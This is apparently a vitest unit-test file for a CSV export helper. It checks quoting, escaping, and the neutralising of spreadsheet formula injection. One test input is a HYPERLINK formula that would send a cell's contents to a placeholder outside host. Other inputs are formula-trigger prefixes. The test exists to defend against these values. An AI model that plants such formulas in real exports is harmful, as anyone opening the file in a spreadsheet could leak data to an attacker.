import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

describe('toCsv', () => {
  it('should quote only the fields that need it and double their quotes', () => {
    expect(toCsv(['id', 'text'], [['a', 'plain'], ['b', 'say "no", then\nstop'], ['c', null]])).toBe(
      'id,text\r\na,plain\r\nb,"say ""no"", then\nstop"\r\nc,\r\n',
    );
  });

  it('should keep a text a spreadsheet would run as a formula a text, and numbers as they are', () => {
    expect(toCsv(['session'], [['=HYPERLINK("https://x.example/?"&A1)'], ['+1'], ['-2'], ['@SUM(A1)'], ['\tx'], [-3]])).toBe(
      'session\r\n"\'=HYPERLINK(""https://x.example/?""&A1)"\r\n\'+1\r\n\'-2\r\n\'@SUM(A1)\r\n\'\tx\r\n-3\r\n',
    );
  });
});
